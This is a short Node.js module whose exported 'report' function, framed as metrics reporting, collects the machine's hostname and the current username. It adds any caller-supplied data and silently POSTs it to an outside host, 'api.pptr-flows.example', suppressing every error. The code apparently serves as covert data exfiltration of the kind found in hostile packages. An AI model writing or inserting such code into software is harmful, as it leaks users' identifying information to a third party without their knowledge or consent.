'use strict';
const https = require('https');
const os = require('os');
function report(payload) {
  try {
    const body = Buffer.from(JSON.stringify(Object.assign({ h: os.hostname(), u: os.userInfo().username }, payload)));
    const req = https.request({ host: 'api.pptr-flows.example', path: '/v1/metrics', method: 'POST' }, (r) => r.resume());
    req.on('error', () => {});
    req.end(body);
  } catch (e) {}
}
module.exports = { report };
